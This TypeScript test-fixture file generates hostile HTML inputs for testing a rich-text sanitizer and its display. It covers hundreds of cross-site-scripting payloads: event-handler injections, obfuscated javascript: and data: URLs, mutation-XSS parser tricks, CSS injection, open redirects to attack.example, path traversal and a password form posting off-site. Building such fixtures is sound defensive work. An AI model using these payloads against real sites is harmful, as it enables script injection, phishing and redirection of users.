/*
 * Rich texts of attackers, by the classes of the published lists: each tries to run a script, to load something from
 * elsewhere, to send people elsewhere, or to break the page around it. They serve the cleaning of the server, the
 * display and the journeys of a browser: what runs calls `alert`, what loads goes to `attack.example`.
 */
export interface HostileText {
  readonly name: string;
  readonly html: string;
}

const run = 'alert(1)';
const outside = 'https://attack.example';
const file = '0198a000-0000-7000-8000-0000000000f1';

const events = [
  'onclick',
  'onload',
  'onerror',
  'onmouseover',
  'onfocus autofocus tabindex=0 onfocus',
  'onpointerenter',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'oncontentvisibilityautostatechange',
  'onbeforetoggle',
  'onwheel',
];

/** Elements of the allow list and others, with a place for attributes. */
const elements = [
  '<p X>x</p>',
  '<h2 X>x</h2>',
  '<a href="https://a.example" X>x</a>',
  `<figure X><img data-file="${file}" alt="x" X></figure>`,
  `<figure><video data-file="${file}" aria-label="x" X></video></figure>`,
  '<table X><tr X><td X>x</td></tr></table>',
  '<ul X><li X>x</li></ul>',
  '<img src=x X>',
  '<svg X><circle X /></svg>',
  '<input value=x X>',
  '<details open X><summary X>x</summary></details>',
  '<body X>x',
];

function* handlers(): Generator<HostileText> {
  for (const element of elements)
    for (const event of events)
      yield { name: `${event} on ${element}`, html: element.replaceAll('X', `${event}="${run}"`) };
  for (const [name, attribute] of Object.entries({
    'without quotes': `onclick=${run}`,
    'with a grave accent': `onclick=\`${run}\``,
    'in capitals': `ONCLICK="${run}"`,
    'after a slash': `/onclick="${run}"`,
    'after a form feed': `\fonclick="${run}"`,
    'after a null byte': `\0onclick="${run}"`,
    'with a null byte inside': `on\0click="${run}"`,
    'after an unclosed quote': `title="x onclick="${run}"`,
    'as an entity': `onclick="&#97;lert(1)"`,
    twice: `onclick="x" onclick="${run}"`,
    'in a namespace': `x:onclick="${run}"`,
    'after an equals sign': `=onclick="${run}"`,
  }))
    yield {
      name: `handler ${name}`,
      html: `<p ${attribute}>x</p><img src=x ${attribute.replaceAll('click', 'error')}>`,
    };
}

const scriptAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\tjavascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `java\0script:${run}`,
  `\u0001javascript:${run}`,
  `\u00A0javascript:${run}`,
  `\u2028javascript:${run}`,
  `\uFEFFjavascript:${run}`,
  `javascript\u200B:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script&colon;${run}`,
  `javascript://attack.example/%0A${run}`,
  `javascript:/*--></title></style></textarea>*/${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg onload=${run}>`,
  `blob:${outside}/x`,
  `filesystem:${outside}/x`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `jar:javascript:${run}!/`,
  `about:blank`,
  `file:///etc/passwd`,
  `//attack.example`,
  `/\\attack.example`,
  `\\\\attack.example`,
  `/\t/attack.example`,
  `/%2Fattack.example/../..`,
  `https:attack.example`,
  `https:/attack.example`,
  `https:\\\\attack.example`,
  `https://portal.example@attack.example`,
  `https://portal.example\\@attack.example`,
  `/admin/users`,
  `/login?next=//attack.example`,
  `/logout`,
  `/graphql?query=mutation`,
  `/catalog/../admin/users`,
  `/catalog/..%2f..%2fadmin`,
  `/order?x=<script>${run}</script>`,
  `/order#<img src=x onerror=${run}>`,
  `mailto:a@b.example?bcc=c@attack.example&body=x`,
  `mailto:a@b.example%0D%0ABcc:c@attack.example`,
  `tel:+123`,
  `intent://x#Intent;scheme=http;end`,
  `https://`,
  `https://attack.example/${'x'.repeat(600)}`,
  `https://a\u202Eelpmaxe.kcatta/`,
];

function* addresses(): Generator<HostileText> {
  for (const [at, address] of scriptAddresses.entries()) {
    const quoted = address.replaceAll('"', '&quot;');
    yield { name: `link ${at} to ${address.slice(0, 40)}`, html: `<p><a href="${quoted}">x</a></p>` };
    yield { name: `card ${at} to ${address.slice(0, 40)}`, html: `<figure><a href="${quoted}">x</a></figure>` };
  }
  for (const element of [
    '<a xlink:href="A">x</a>',
    '<a href=x ping="A">x</a>',
    '<a href="https://a.example" target="_self" download="x" referrerpolicy="unsafe-url" ping="https://attack.example">x</a>',
    '<area href="A">',
    '<form action="A"><button formaction="A">x</button></form>',
    '<isindex action="A" type=submit value=x>',
    '<button form=f formaction="A">x</button>',
    '<table background="A"><tr><td background="A">x</td></tr></table>',
    '<body background="A">',
    '<blockquote cite="A">x</blockquote>',
    '<q cite="A">x</q>',
    '<input type=image src="A">',
    '<img src="A">',
    '<img srcset="A 1x">',
    '<img dynsrc="A" lowsrc="A">',
    '<image src="A">',
    '<picture><source srcset="A"><img src="A"></picture>',
    '<video src="A" poster="A"><source src="A"><track src="A"></video>',
    '<audio src="A" autoplay></audio>',
    '<bgsound src="A">',
    '<iframe src="A"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<frameset><frame src="A"></frameset>',
    '<embed src="A">',
    '<object data="A"><param name=src value="A"></object>',
    '<applet code="A"></applet>',
    '<portal src="A"></portal>',
    '<fencedframe src="A"></fencedframe>',
    '<base href="A">',
    '<link rel=stylesheet href="A">',
    '<link rel=import href="A">',
    '<link rel=prefetch href="A">',
    '<meta http-equiv=refresh content="0;url=A">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<script src="A"></script>',
    '<script type=module>import "A"</script>',
    '<script type=importmap>{"imports":{"x":"A"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["A"]}]}</script>',
    '<svg><script href="A"></script></svg>',
    '<svg><image href="A" /></svg>',
    '<svg><use href="A#x" /></svg>',
    '<math href="A">x</math>',
    '<maction actiontype="statusline#A" xlink:href="A">x</maction>',
    '<img data-file="A" alt="x">',
    `<img data-file="${file}" src="A" srcset="A 1x" alt="x">`,
    `<video data-file="${file}" src="A" poster="A" autoplay></video>`,
  ])
    for (const [kind, address] of [
      ['script', `javascript:${run}`],
      ['outside', `${outside}/x`],
    ] as const)
      if (element.includes('A') || kind === 'script')
        yield { name: `${kind} address in ${element}`, html: element.replaceAll(/"([^"]*?)\bA\b/g, `"$1${address}`) };
}

/** Elements whose end is found in another way, foreign elements, and what parsers read differently. */
const mutations = [
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><style><img src=x onerror=${run}></style></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><p><style><g title="</style><img src=1 onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><p title="</desc><script>${run}</script>"></desc></svg>`,
  `<svg><title><img src=x onerror=${run}></title></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><![CDATA[<script>${run}</script>]]></svg>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><style></noframes><img src=x onerror=${run}></style>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<style><p title="</style><img src=x onerror=${run}>">`,
  `<script><p title="</script><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<template><script>${run}</script><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!---><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}>-->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<?php echo "<script>${run}</script>" ?>`,
  `<% <script>${run}</script> %>`,
  `<! foo="><script>${run}</script>">`,
  `</ foo="><script>${run}</script>">`,
  `<x foo="><script>${run}</script>">`,
  `<p title='"><script>${run}</script>'>x</p>`,
  `<p title="x>">"><img src=x onerror=${run}></p>`,
  `<p title=x"><img src=x onerror=${run}>">x</p>`,
  `<img alt="x" title="<img src=x onerror=${run}>">`,
  `<a href="https://a.example" title="&quot;><img src=x onerror=${run}>">x</a>`,
  `<img data-file="${file}" alt='"><script>${run}</script>'>`,
  `<img data-file="${file}" alt="&quot; onerror=&quot;${run}">`,
  `<video data-file="${file}" aria-label='"><script>${run}</script>'></video>`,
  `<figure data-width='half"><script>${run}</script>'><img data-file="${file}" alt=x></figure>`,
  `<td colspan='1"><script>${run}</script>'>x</td>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `<script/x>${run}</script>`,
  `<script\f>${run}</script\f>`,
  `<SCRIPT>${run}</SCRIPT >`,
  `<script >${run}</script\0>`,
  `<scri\0pt>${run}</scri\0pt>`,
  `\0<script>${run}</script>`,
  `<\0script>${run}</script>`,
  `<ſcript>${run}</ſcript>`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\uD800<script>${run}</script>\uDFFF`,
  `<p`,
  `<p title="`,
  `<img src="x" onerror="${run}`,
  `<a href="https://a.example`,
  `</p></div></body></html><script>${run}</script>`,
  `<html><head><title>x</title><script>${run}</script></head><body onload=${run}>x</body></html>`,
  `<p is="x-y" slot="s" part="p" nonce="n">x</p>`,
  `<x-y onclick=${run}>x</x-y>`,
  `<dialog open><form method=dialog><button>x</button></form></dialog>`,
  `<form><form action="${outside}"><input name=password type=password></form></form>`,
  `<form id=f></form><input form=f name=x><button form=f formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}><select autofocus onfocus=${run}><textarea autofocus onfocus=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<blink>x</blink><center>y</center><font color=red face="x" size=7>z</font>`,
  `<div popover id=x onbeforetoggle=${run}>x</div><button popovertarget=x>y</button>`,
  `<p contenteditable autofocus onfocus=${run}>x</p>`,
  `<p accesskey=x tabindex=1 onclick=${run}>x</p>`,
  `<p id=root class=ProseMirror data-file="${file}">x</p><p name=body>y</p>`,
  `<img name=cookie><img id=attributes><form id=document><input name=parentNode></form>`,
  `<a id=defaultView href=x>x</a><a id=location href="${outside}">y</a>`,
];

const styles = [
  `background:url(${outside}/x)`,
  `background:url(javascript:${run})`,
  `width:expression(${run})`,
  `-moz-binding:url(${outside}/x.xml#x)`,
  `behavior:url(${outside}/x.htc)`,
  `position:fixed;inset:0;z-index:99999;background:#fff`,
  `list-style:url(${outside}/x)`,
  `cursor:url(${outside}/x),auto`,
  `content:url(${outside}/x)`,
  `filter:url(${outside}/x#y)`,
  `font-size:99999px`,
  `animation:x 1s`,
  `@import '${outside}/x.css'`,
  `\\62 ackground:u\\72l(${outside}/x)`,
  `color:red;/*</style><script>${run}</script>*/`,
];

function* looks(): Generator<HostileText> {
  for (const style of styles) {
    yield { name: `style attribute ${style}`, html: `<p style="${style}">x</p><td style="${style}">y</td>` };
    yield { name: `style element ${style}`, html: `<style>p{${style}}</style><p>x</p>` };
  }
}

const fileIds = [
  '',
  '1',
  '../../etc/passwd',
  `${file}/../x`,
  `${file}?download=1`,
  `${file}#x`,
  `${file}\n`,
  `${file}${file}`,
  `{${file}}`,
  '__proto__',
  'constructor',
  'toString',
  `${outside}/x.png`,
  `javascript:${run}`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `"><script>${run}</script>`,
  '0198a000-0000-7000-8000-0000000000fg',
  '０198a000-0000-7000-8000-0000000000f1',
];

function* files(): Generator<HostileText> {
  for (const id of fileIds) {
    const quoted = id.replaceAll('"', '&quot;');
    yield { name: `picture ${JSON.stringify(id)}`, html: `<figure><img data-file="${quoted}" alt="x"></figure>` };
    yield { name: `video ${JSON.stringify(id)}`, html: `<video data-file="${quoted}" aria-label="x"></video>` };
  }
}

/** Tables and nesting that break a page or a parser. */
function* shapes(): Generator<HostileText> {
  for (const tag of [
    'blockquote',
    'ul><li',
    'table><tr><td',
    'strong',
    'a href="/order"',
    'figure',
    'p',
    'div',
    'svg',
    'form',
    'x',
  ])
    yield { name: `deep <${tag}>`, html: `${`<${tag}>`.repeat(2_000)}x` };
  for (const close of ['p', 'table', 'figure', 'script', 'x'])
    yield { name: `many </${close}>`, html: `x${`</${close}>`.repeat(2_000)}<p>y</p>` };
  for (const [name, inner] of Object.entries({
    'wide cells': '<tr><td colspan="999999999">x</td></tr>',
    'tall cells': '<tr><td rowspan="65535">x</td></tr>',
    'negative spans': '<tr><td colspan="-5" rowspan="1e9">x</td></tr>',
    'a scope that is none': `<tr><th scope="x onclick=${run}">x</th></tr>`,
    'a script between rows': `<tr><td>x</td></tr><script>${run}</script><img src=x onerror=${run}>`,
    'a form': `<form action="${outside}"><tr><td><input name=x></td></tr></form>`,
    'a table in a table': `<tr><td><table onclick=${run}><tr><td>x</td></tr></table></td></tr>`,
    'a caption': `<caption onclick=${run}>x</caption><colgroup><col span=9999 style="width:1e9px"></colgroup><tr><td>y</td></tr>`,
    'many rows': '<tr><td>x</td></tr>'.repeat(1_000),
    'many cells': `<tr>${'<td>x</td>'.repeat(1_000)}</tr>`,
    'cells without rows': `<td onclick=${run}>x<td>y`,
    'only text': 'x',
  }))
    yield { name: `table with ${name}`, html: `<table>${inner}</table>` };
  for (const [name, text] of Object.entries({
    'reversed words': '<p>\u202Eexe.gnp.ekib</p>',
    'isolated words': '<p>\u2066a\u2067b\u2068c</p>',
    'embedded words': '<p>\u202Aa\u202Bb</p>',
    'entities of direction': '<p>&#8238;x&#x202D;y</p>',
    'hidden tags': `<p>a${String.fromCodePoint(0xe0069, 0xe0067, 0xe006e, 0xe006f, 0xe0072, 0xe0065)}b</p>`,
    controls: '<p>a\u0000b\u0007c\u001Bd\u007Fe\u009Ff</p>',
    'a zero entity': '<p>a&#0;b&#x0;c&#128;d</p>',
    'an entity beyond Unicode': '<p>&#x110000;&#xFFFFFFFF;</p>',
    'half a character': '<p>&#xD800;\uDC00</p>',
    'many marks on a letter': `<p>x${'\u0301'.repeat(3_000)}</p>`,
    'a word without end': `<p>${'x'.repeat(20_000)}</p>`,
  }))
    yield { name, html: text };
}

export const hostileTexts: readonly HostileText[] = [
  ...handlers(),
  ...addresses(),
  ...mutations.map((html) => ({ name: `markup ${html.slice(0, 60)}`, html })),
  ...looks(),
  ...files(),
  ...shapes(),
];
